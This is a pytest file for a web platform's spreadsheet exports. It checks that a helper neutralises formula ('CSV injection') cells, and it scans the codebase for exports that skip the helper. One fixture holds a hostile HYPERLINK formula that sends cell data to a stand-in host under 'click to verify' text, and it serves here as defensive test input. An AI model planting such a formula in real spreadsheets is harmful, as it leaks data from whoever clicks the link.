"""Every cell the platform writes into a spreadsheet is neutralised (OWASP "CSV injection"): a
text starting with =, +, -, @, a tab or a carriage return is prefixed with an apostrophe, through
one helper (common.spreadsheets), in every export present and future."""

import io
import pathlib

import pytest
from openpyxl import Workbook, load_workbook

from common.spreadsheets import neutralise, workbook_bytes
from tests.factories import LearnerFactory
from tests.institutions_factories import member
from tests.rosters_factories import class_with_staff

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&C2,"点此核验")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张明", "张明"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_a_workbook_leaves_with_no_formula_in_it():
    workbook = Workbook()
    workbook.active.append(["=1+1", "ok", -3])
    workbook.create_sheet("second").append(["@cmd"])
    saved = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    first = [cell for row in saved.active.iter_rows() for cell in row]
    assert [cell.value for cell in first] == ["'=1+1", "ok", -3]
    assert all(cell.data_type != "f" for cell in first)
    assert saved["second"]["A1"].value == "'@cmd"


@pytest.mark.django_db
def test_a_hostile_name_is_text_in_the_class_dashboard_export(client):
    training_class, staff = class_with_staff()
    member(training_class, LearnerFactory(real_name=HOSTILE_NAME))
    client.force_login(staff)
    export = client.get(f"/institution/rosters/classes/{training_class.pk}/dashboard.xlsx")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'" + HOSTILE_NAME in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_every_workbook_the_platform_saves_goes_through_the_one_helper():
    """A new export cannot forget: only common/spreadsheets.py may save an openpyxl workbook."""
    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "bench"} or relative == pathlib.Path(
            "common/spreadsheets.py"
        ):
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" in text and (".save(" in text and "Workbook" in text) and "workbook_bytes" not in text:
            offenders.append(str(relative))
        if "csv.writer" in text and "neutralise" not in text:
            offenders.append(str(relative))
    assert offenders == []
